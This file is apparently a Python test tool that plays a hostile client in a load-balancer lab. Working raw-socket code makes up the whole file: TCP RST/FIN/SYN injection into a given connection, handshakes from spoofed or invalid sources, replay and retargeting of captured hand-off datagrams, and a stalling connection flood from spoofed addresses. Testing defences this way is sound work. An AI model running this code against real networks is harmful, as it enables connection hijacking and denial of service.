#!/usr/bin/python3
"""A hostile client at packet level, for the hostile-traffic lab test.

Runs in the lab's client namespace on its interface with a raw AF_PACKET
socket and writes Ethernet frames itself (no scapy: this must be fast).
Commands (each prints one JSON line of what it did and saw):

  spoof IFACE SRC_MAC DST_MAC SRC_IP DST_IP SPORT DPORT KIND COUNT
      KIND rst: RSTs with random sequence numbers on that 4-tuple;
      fin: FIN+ACK with random seq/ack; syn: SYNs with random ISNs.
  port0 IFACE SRC_MAC DST_MAC SRC_IP DST_IP DPORT
      handshakes the hand-off cannot carry (source port 0, source
      0.0.0.0, a multicast source, the VIP itself as source); when a
      SYN/ACK comes back, completes it and sends a request, as an attacker
      would to reach the control Worker.
  replay PCAP IFACE SRC_MAC DPORT [DST_MAC DST_IP]
      the Ethernet frames of UDP to DPORT captured in PCAP (hand-off
      datagrams seen on the fabric), sent again on IFACE from SRC_MAC with
      their IP source (the director's address) kept, as an attacker on the
      fabric would; with DST_MAC DST_IP, re-targeted to another server
      (checksums fixed, the datagram itself untouched).
  flood IFACE SRC_MAC DST_MAC DST_IP DPORT COUNT SECONDS
      spoofed handshakes from COUNT sources (198.18.128.0/17 ... spread over
      /24s, one /24 heavy) that complete with the director's cookie and then
      never send a request (half of them send one byte of it).
"""
import json
import os
import random
import select
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800


def csum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total) & 0xFFFF


def mac(text):
    return bytes(int(b, 16) for b in text.split(":"))


def tcp_frame(src_mac, dst_mac, src_ip, dst_ip, sport, dport, seq, ack, flags, payload=b"",
              window=64240, options=b""):
    src = socket.inet_aton(src_ip)
    dst = socket.inet_aton(dst_ip)
    offset = (20 + len(options)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                      offset << 4, flags, window, 0, 0) + options + payload
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randrange(65536), 0x4000,
                     64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + ip + tcp


def parse_tcp(frame):
    """(src_ip, dst_ip, sport, dport, seq, ack, flags) of an IPv4/TCP frame, or None."""
    if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6:
        return None
    ihl = (frame[14] & 0x0F) * 4
    t = 14 + ihl
    if len(frame) < t + 20:
        return None
    sport, dport, seq, ack, _, flags = struct.unpack("!HHIIBB", frame[t:t + 14])
    return (socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34]), sport, dport, seq,
            ack, flags)


def open_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    s.bind((iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    return s


def syn_acks(s, wait_s, wanted):
    """SYN/ACKs that arrive within wait_s whose (dst_ip, dport) is in wanted: {key: seq}."""
    got = {}
    deadline = time.time() + wait_s
    while time.time() < deadline and len(got) < len(wanted):
        ready, _, _ = select.select([s], [], [], max(0.0, deadline - time.time()))
        if not ready:
            break
        frame = s.recv(4096)
        parsed = parse_tcp(frame)
        if parsed is None:
            continue
        _, dst_ip, _, dport, seq, _, flags = parsed
        if flags & 0x12 == 0x12 and (dst_ip, dport) in wanted:
            got[(dst_ip, dport)] = seq
    return got


def spoof(iface, src_mac, dst_mac, src_ip, dst_ip, sport, dport, kind, count):
    s = open_socket(iface)
    flags = {"rst": 0x04, "fin": 0x11, "syn": 0x02}[kind]
    for _ in range(count):
        seq = random.getrandbits(32)
        ack = random.getrandbits(32) if kind == "fin" else 0
        s.send(tcp_frame(mac(src_mac), mac(dst_mac), src_ip, dst_ip, sport, dport, seq, ack,
                         flags))
    print(json.dumps({"sent": count, "kind": kind}))


def port0(iface, src_mac, dst_mac, src_ip, dst_ip, dport):
    s = open_socket(iface)
    tries = [(src_ip, 0), ("0.0.0.0", 40001), ("224.0.0.5", 40002), (dst_ip, 40003),
             ("240.0.0.9", 40004)]
    answered = []
    for ip, port in tries:
        isn = random.getrandbits(32)
        s.send(tcp_frame(mac(src_mac), mac(dst_mac), ip, dst_ip, port, dport, isn, 0, 0x02,
                         options=b"\x02\x04\x05\xb4"))
        got = syn_acks(s, 0.5, {(ip, port)})
        if (ip, port) in got:
            answered.append("%s:%d" % (ip, port))
            cookie = got[(ip, port)]
            request = b"GET /hostile HTTP/1.1\r\nHost: x\r\n\r\n"
            s.send(tcp_frame(mac(src_mac), mac(dst_mac), ip, dst_ip, port, dport, isn + 1,
                             cookie + 1, 0x18, request))
    time.sleep(0.3)
    print(json.dumps({"tried": len(tries), "syn_acks": answered}))


def flood(iface, src_mac, dst_mac, dst_ip, dport, count, seconds):
    s = open_socket(iface)
    # one /24 takes half the sources: the per-source share must stop it alone
    sources = []
    for i in range(count):
        if i % 2 == 0:
            sources.append(("198.18.200.%d" % (1 + (i // 2) % 250), 20000 + i))
        else:
            sources.append(("198.18.%d.%d" % (128 + i % 64, 1 + (i // 64) % 250), 20000 + i))
    started = time.time()
    completed = 0
    with_byte = 0
    batch = 64
    for at in range(0, len(sources), batch):
        chunk = sources[at:at + batch]
        isns = {}
        for ip, port in chunk:
            isns[(ip, port)] = random.getrandbits(32)
            s.send(tcp_frame(mac(src_mac), mac(dst_mac), ip, dst_ip, port, dport,
                             isns[(ip, port)], 0, 0x02, options=b"\x02\x04\x05\xb4"))
        got = syn_acks(s, 0.2, set(chunk))
        for key, cookie in got.items():
            ip, port = key
            payload = b"G" if port % 2 == 0 else b""
            with_byte += 1 if payload else 0
            s.send(tcp_frame(mac(src_mac), mac(dst_mac), ip, dst_ip, port, dport,
                             isns[key] + 1, cookie + 1, 0x10 | (0x08 if payload else 0), payload))
            completed += 1
        # pace to spread the flood over the given time
        target = started + seconds * (at + batch) / len(sources)
        if time.time() < target:
            time.sleep(target - time.time())
    print(json.dumps({"sources": len(sources), "completed": completed, "with_byte": with_byte,
                      "seconds": round(time.time() - started, 2)}))


def replay(pcap, iface, src_mac, dport, dst_mac=None, dst_ip=None):
    frames = []
    with open(pcap, "rb") as f:
        header = f.read(24)
        endian = "<" if struct.unpack("<I", header[:4])[0] in (0xA1B2C3D4, 0xA1B23C4D) else ">"
        while True:
            record = f.read(16)
            if len(record) < 16:
                break
            incl = struct.unpack(endian + "IIII", record)[2]
            frame = f.read(incl)
            if len(frame) < 42 or frame[12:14] != b"\x08\x00" or frame[23] != 17:
                continue
            ihl = (frame[14] & 0x0F) * 4
            udp = 14 + ihl
            if struct.unpack("!H", frame[udp + 2:udp + 4])[0] == dport:
                frames.append(bytearray(frame))
    s = open_socket(iface)
    for frame in frames:
        frame[6:12] = mac(src_mac)
        if dst_mac is not None:
            ihl = (frame[14] & 0x0F) * 4
            frame[0:6] = mac(dst_mac)
            frame[30:34] = socket.inet_aton(dst_ip)
            frame[24:26] = b"\0\0"
            frame[24:26] = struct.pack("!H", csum(bytes(frame[14:14 + ihl])))
            udp = 14 + ihl
            frame[udp + 6:udp + 8] = b"\0\0"  # no checksum: allowed for UDP over IPv4
        s.send(bytes(frame))
    print(json.dumps({"replayed": len(frames), "to": dst_ip or "the captured destination"}))


def main():
    command, args = sys.argv[1], sys.argv[2:]
    if command == "spoof":
        iface, src_mac, dst_mac, src_ip, dst_ip, sport, dport, kind, count = args
        spoof(iface, src_mac, dst_mac, src_ip, dst_ip, int(sport), int(dport), kind, int(count))
    elif command == "port0":
        iface, src_mac, dst_mac, src_ip, dst_ip, dport = args
        port0(iface, src_mac, dst_mac, src_ip, dst_ip, int(dport))
    elif command == "replay":
        pcap, iface, src_mac, dport = args[:4]
        replay(pcap, iface, src_mac, int(dport), *args[4:6])
    elif command == "flood":
        iface, src_mac, dst_mac, dst_ip, dport, count, seconds = args
        flood(iface, src_mac, dst_mac, dst_ip, int(dport), int(count), float(seconds))
    else:
        sys.exit("unknown command " + command)


if __name__ == "__main__":
    main()
